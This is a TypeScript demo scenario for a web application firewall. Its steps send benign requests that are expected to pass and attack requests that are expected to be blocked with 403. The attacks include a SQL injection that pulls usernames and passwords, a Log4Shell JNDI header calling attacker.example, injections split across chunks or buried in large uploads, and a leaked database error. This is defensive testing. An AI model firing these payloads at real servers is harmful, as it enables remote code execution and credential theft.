// The scenario that the demo plays: benign traffic that passes, and attacks that do not, each in a place that other firewalls do not look
// at. Only the steps; step.ts plays them.

import { createHash } from 'node:crypto';
import type { DemoMode } from './options.ts';
import type { HeaderPairs } from './stack/arrivals.ts';
import { cutAt, longBody, paced } from './stack/client.ts';
import type { Observed, Step } from './step.ts';
import { bytesInWords } from './words.ts';

const MiB = 1024 * 1024;

/** Headers that a browser sends, so that no rule matches the client. */
const usual: HeaderPairs = [
  ['host', 'shop.example'],
  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) WeirDemo/1.0'],
  ['accept', '*/*'],
];

const typed = (type: string): HeaderPairs => [...usual, ['content-type', type]];
const form = typed('application/x-www-form-urlencoded');
const attack = "1' UNION SELECT username, password FROM users-- ";
const encodedAttack = encodeURIComponent(attack);

/** How much Weir's memory may grow over an upload of 64 MiB: normal fluctuation between garbage collections. */
const memoryGrowthMax = 48 * MiB;

/** The conditions of the steps: each returns a sentence if it does not hold. */
const passed = ({ answer }: Observed): string[] =>
  answer.status === 200 && answer.end === 'complete'
    ? []
    : [`expected 200 and a complete response, got ${answer.status}, ${answer.end}`];

const blocked = ({ answer, ruleIds }: Observed): string[] => [
  ...(answer.status === 403 ? [] : [`expected 403, got ${answer.status}`]),
  ...(ruleIds.length > 0 ? [] : ['no rule id in the access log']),
];

const nothingArrived = ({ arrival }: Observed): string[] =>
  arrival === undefined || arrival.bodyBytes === 0
    ? []
    : [`${arrival.bodyBytes} bytes of the body reached the upstream`];

/** Every byte that was sent arrived, and no other: compared by digest with the bytes that the client was given. */
const arrivedAs =
  (pieces: Iterable<Uint8Array>) =>
  ({ arrival }: Observed): string[] => {
    if (arrival?.state !== 'complete') return ['the request did not reach the upstream completely'];
    const hash = createHash('sha256');
    for (const piece of pieces) hash.update(piece);
    return arrival.sha256 === hash.digest('hex')
      ? []
      : [`the upstream received other bytes (SHA-256 ${arrival.sha256})`];
  };

const attackDidNotArrive =
  (end: string) =>
  ({ arrival }: Observed): string[] =>
    arrival === undefined || (arrival.state !== 'complete' && !arrival.tail.includes(end))
      ? []
      : ['the attack reached the upstream'];

const tooLargeToBuffer = ({ answer }: Observed): string[] =>
  answer.status === 413 ? [] : [`expected Envoy's 413 (more than it buffers), got ${answer.status}`];

function benignSteps(mode: DemoMode): Step[] {
  const large = mode === 'buffered' ? MiB / 2 : 64 * MiB;
  const letter = (): Generator<Uint8Array> =>
    longBody(large, { start: 'letter=', fill: 'Dear+Ada,+all+is+well+here.+', end: 'Yours,+Charles' });
  const body = Buffer.from('name=Ada+Lovelace&note=Please+deliver+after+5+pm.+Thanks%21');
  return [
    {
      title: 'benign GET',
      request: { path: '/products?q=blue+shoes&page=2', headers: usual },
      bodyBytes: 0,
      problems: (observed) => [...passed(observed), ...arrivedAs([])(observed)],
    },
    {
      title: 'benign form',
      request: { method: 'POST', path: '/orders', headers: form, body: [body], lengthBytes: body.length },
      bodyBytes: body.length,
      problems: (observed) => [...passed(observed), ...arrivedAs([body])(observed)],
    },
    {
      title: `benign ${bytesInWords(large)}, byte for byte`,
      request: { method: 'POST', path: '/letters', headers: form, body: letter(), lengthBytes: large },
      bodyBytes: large,
      problems: (observed) => [...passed(observed), ...arrivedAs(letter())(observed)],
    },
  ];
}

function headAttacks(): Step[] {
  return [
    {
      title: 'SQL injection in the query',
      request: { path: `/products?id=${encodedAttack}`, headers: usual },
      bodyBytes: 0,
      problems: (observed) => [...blocked(observed), ...nothingArrived(observed)],
    },
    {
      title: 'Log4Shell in a header of a plain GET',
      request: { path: '/', headers: [...usual, ['x-api-version', '$'.concat('{jndi:ldap://attacker.example/a}')]] },
      bodyBytes: 0,
      problems: (observed) => [...blocked(observed), ...nothingArrived(observed)],
    },
  ];
}

function shortBodyAttacks(): Step[] {
  const body = Buffer.from(`name=Ada&comment=${encodedAttack}`);
  const json = Buffer.from(JSON.stringify({ order: { items: [{ sku: 'A-17', filter: attack }] } }));
  return [
    {
      title: 'attack cut in the middle across two chunks',
      request: {
        method: 'POST',
        path: '/comments',
        headers: form,
        body: paced(cutAt(body, [body.indexOf('UNION') + 3]), 60),
      },
      bodyBytes: body.length,
      problems: (observed) => [...blocked(observed), ...nothingArrived(observed)],
    },
    {
      title: 'attack deep in a JSON body',
      request: {
        method: 'POST',
        path: '/api/orders',
        headers: typed('application/json'),
        body: [json],
        lengthBytes: json.length,
      },
      bodyBytes: json.length,
      problems: (observed) => [...blocked(observed), ...nothingArrived(observed)],
    },
    {
      title: 'body ended by HTTP/2 trailers',
      protocol: 'http2',
      request: {
        method: 'POST',
        path: '/comments',
        headers: form.filter(([name]) => name !== 'host'),
        body: [body],
        trailers: [['x-checksum', '17']],
      },
      bodyBytes: body.length,
      problems: (observed) => [...blocked(observed), ...nothingArrived(observed)],
    },
  ];
}

function largeBodyAttacks(mode: DemoMode): Step[] {
  const large = 64 * MiB;
  const slow = mode === 'buffered' ? MiB / 2 : 16 * MiB;
  const plain = 'All+work+and+no+play.+';
  const ended = { start: 'letter=', fill: plain, end: encodedAttack };
  const firstKiB = Buffer.from(`comment=${encodedAttack}&letter=`.padEnd(1024, plain));
  const slowly = [firstKiB, ...longBody(slow - firstKiB.length, { fill: plain })];
  return [
    {
      title: 'the same attack as the last bytes of 64 MiB',
      request: {
        method: 'POST',
        path: '/upload',
        headers: form,
        body: longBody(large, ended),
        lengthBytes: large,
      },
      bodyBytes: large,
      problems: (observed) =>
        mode === 'buffered'
          ? [...tooLargeToBuffer(observed), ...nothingArrived(observed)]
          : [...blocked(observed), ...attackDidNotArrive(encodedAttack)(observed), ...constantMemory(observed)],
      notes: ({ memoryBefore, memoryPeak }) => [
        `Weir's memory: ${bytesInWords(memoryBefore)} before, at most ${bytesInWords(memoryPeak)} during the upload`,
        ...(mode === 'buffered' ? ["buffered mode ends at the limit of Envoy's buffer: 413"] : []),
      ],
    },
    {
      title: `attack in the first KiB of a slow ${bytesInWords(slow)}`,
      request: {
        method: 'POST',
        path: '/upload',
        headers: form,
        body: paced(slowly, 10),
        lengthBytes: slow,
      },
      bodyBytes: slow,
      problems: (observed) => [
        ...blocked(observed),
        ...nothingArrived(observed),
        ...(mode !== 'buffered' && observed.answer.sentBytes >= slow / 2
          ? ['the response came only after most of the upload']
          : []),
      ],
      notes: ({ answer }) => [`answered after ${bytesInWords(answer.sentBytes)} of ${bytesInWords(slow)} were sent`],
    },
  ];
}

const constantMemory = ({ memoryBefore, memoryPeak }: Observed): string[] =>
  memoryPeak - memoryBefore <= memoryGrowthMax
    ? []
    : [`Weir's memory grew by ${bytesInWords(memoryPeak - memoryBefore)}`];

function responseLeak(): Step[] {
  const leak =
    "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''' at line 1";
  const order = Buffer.from(
    JSON.stringify({
      status: 200,
      headers: { 'content-type': 'text/html' },
      encodedBody: Buffer.from(`<p>${leak}</p>`).toString('base64'),
    }),
  );
  return [
    {
      title: 'a response that leaks a database error',
      request: {
        method: 'POST',
        path: '/reflect',
        headers: typed('application/json'),
        body: [order],
        lengthBytes: order.length,
      },
      bodyBytes: order.length,
      problems: (observed) => [
        ...blocked(observed),
        ...(observed.answer.body.includes('SQL syntax') ? ['the leak reached the client'] : []),
        ...(observed.arrival?.state === 'complete' ? [] : ['the benign request did not reach the upstream']),
      ],
    },
  ];
}

/** The steps in order. */
export function scenario(mode: DemoMode): Step[] {
  return [...benignSteps(mode), ...headAttacks(), ...shortBodyAttacks(), ...largeBodyAttacks(mode), ...responseLeak()];
}
